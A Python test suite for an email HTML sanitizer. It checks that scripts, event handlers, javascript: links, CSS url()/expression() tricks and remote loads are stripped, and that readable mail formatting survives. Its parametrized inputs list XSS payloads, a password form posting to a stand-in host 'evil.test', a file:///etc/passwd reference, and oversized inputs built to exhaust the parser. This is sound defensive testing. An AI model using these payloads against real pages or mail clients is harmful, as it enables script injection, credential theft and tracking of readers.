"""What must not survive, what must, and the work for nested tags."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from poststelle.protocols.mime import html_text, safe_html, safe_style


def cleaned(html: str, remote: bool = False) -> safe_html.Safe:
    return safe_html.clean(html, {"logo@x": "/messages/1/parts/2"}.get, remote)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="vbscript:x">x</a>',
        "<svg><script>alert(1)</script></svg>",
        '<svg><animate attributeName="href" to="javascript:alert(1)"></svg>',
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="x"></object><embed src="x">',
        '<form action="http://evil.test"><input name="password"><button>x</button></form>',
        '<meta http-equiv="refresh" content="0;url=http://evil.test">',
        '<base href="http://evil.test/">',
        '<link rel="stylesheet" href="http://evil.test/x.css">',
        "<style>body{background:url(http://evil.test)}</style>",
        '<body background="http://evil.test/x.png">',
        '<table background="http://evil.test/x.png"><tr><td>x</td></tr></table>',
        '<video src="http://evil.test/x" poster="http://evil.test/y"></video>',
        '<img srcset="http://evil.test/x 2x">',
        '<p style="background:url(http://evil.test)">x</p>',
        '<p style="background:u\\72l(http://evil.test)">x</p>',
        "<p style=\"background-image:image-set('http://evil.test' 1x)\">x</p>",
        '<p style="width:expression(alert(1))">x</p>',
        "<p style=\"color:red;@import 'http://evil.test'\">x</p>",
        "<p style=\"font-family:'x',url(//evil.test)\">x</p>",
        '<p style="list-style:url(http://evil.test)">x</p>',
        '<p style="content:url(http://evil.test)">x</p>',
        '<p style="--x:url(http://evil.test);color:var(--x)">x</p>',
        '<p style="position:fixed;top:0;left:0;z-index:9">x</p>',
        '<p style="width:1e9px">x</p>',
        '<p style="width:999999px">x</p>',
        '<p style="margin-top:-500px">x</p>',
        '<p style="margin:0 0 0 -9em">x</p>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<img src="data:text/html;base64,AAAA">',
        '<img src="cid:other@x">',
        '<img src="//evil.test/x.png">',
        '<img src="file:///etc/passwd">',
        '<img width="99999999">',
        '<p id="top" class="navbar" name="x">x</p>',
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<textarea><script>alert(1)</script></textarea>",
        '<a href="http://ok.test" ping="http://evil.test" onclick="x()">x</a>',
    ],
)
def test_what_runs_loads_or_covers_does_not_survive(html: str) -> None:
    safe = cleaned(html).html.lower()
    for word in (
        "script", "evil", "onerror", "onclick", "alert", "url(", "position", "<form", "<input", "<iframe", "<svg",
        "<style",
        "expression", "e9", "99999", "-500", "-9em", "id=", "class=", "file:", "svg+xml", "text/html", "cid:", "var(",
    ):  # fmt: skip
        assert word not in safe


def test_what_makes_a_mail_readable_survives() -> None:
    html = '<table width="600"><tr><td style="color: #333; padding: 10px 5%"><b>Grüße</b><br><font size="2">x</font>'
    safe = cleaned(html).html
    for part in ('width="600"', "color: #333", "padding: 10px 5%", "<b>Grüße</b>", '<font size="2">'):
        assert part in safe


def test_links_open_elsewhere_and_tell_nothing() -> None:
    safe = cleaned('<a href="https://shop.test/?a=1&amp;b=2">Shop</a>').html
    assert 'target="_blank"' in safe
    assert 'rel="noopener noreferrer nofollow"' in safe
    assert 'href="https://shop.test/?a=1&amp;b=2"' in safe


def test_pictures_that_came_along_are_shown() -> None:
    assert 'src="/messages/1/parts/2"' in cleaned('<img src="cid:logo@x" alt="Logo">').html
    assert "data:image/png" in cleaned('<img src="data:image/png;base64,AAAA">').html


def test_pictures_from_elsewhere_are_blocked_and_counted() -> None:
    html = '<img src="http://t.test/1"><img src="HTTPS://t.test/2"><img src=" //t.test/3"><img src="cid:logo@x">'
    assert cleaned(html).blocked == 3
    assert cleaned('<p style="background:url(http://t.test/4)">x</p>').blocked == 1
    assert cleaned(html, remote=True).blocked == 0
    assert "t.test/2" in cleaned(html, remote=True).html


@pytest.mark.parametrize("tag", ["div", "b", "table", "font", "blockquote"])
def test_thousands_of_nested_tags_become_text(tag: str) -> None:
    safe = cleaned(f"<{tag}>" * 20_000 + "deep")
    assert "deep" in safe.html
    assert safe.html.startswith("<pre>")


@pytest.mark.parametrize("hostile", ["<" * 300_000, "<a " * 100_000, "&" * 300_000, "<!--" * 100_000, "<p>" * 50_000])
def test_a_page_of_malice_is_cleaned_within_the_tests_time(hostile: str) -> None:
    cleaned(hostile)
    html_text.text_of_html(hostile)


PIECES = ["<a href=", '"', "javascript:", "<img src=", ">", "style=", "url(", "x", "<p ", "</p>"]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES)))
def test_anything_is_cleaned_and_clean_stays_clean(pieces: list[str]) -> None:
    once = cleaned("".join(pieces)).html
    again = cleaned(once).html
    assert sorted(re.split(r"[ <>]+", again)) == sorted(re.split(r"[ <>]+", once))  # attributes have no order
    html_text.text_of_html("".join(pieces))


@given(st.text(max_size=200))
def test_no_style_raises(style: str) -> None:
    assert "url(" not in safe_style.clean(style).lower()


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo\n"),
        ("a<br>b", "a\nb\n"),
        ("<ul><li>one</li><li>two</li></ul>", "- one\n- two\n"),
        ("<blockquote>quoted<br>more</blockquote>new", "> quoted\n> more\nnew\n"),
        ('<a href="https://x.test/a">here</a>', "here <https://x.test/a>\n"),
        ('<a href="https://x.test/">https://x.test</a>', "https://x.test\n"),
        ("<pre>a\n  b</pre>", "a\n  b\n"),
        ("<p>many\n   blanks &amp;&nbsp;signs</p>", "many blanks & signs\n"),
        ("<style>p{}</style><script>x</script><title>t</title>text", "text\n"),
        ('<img alt="Logo" src="x">', "Logo\n"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc\n"),
        ("", ""),
    ],
)
def test_html_becomes_text(html: str, text: str) -> None:
    assert html_text.text_of_html(html) == text
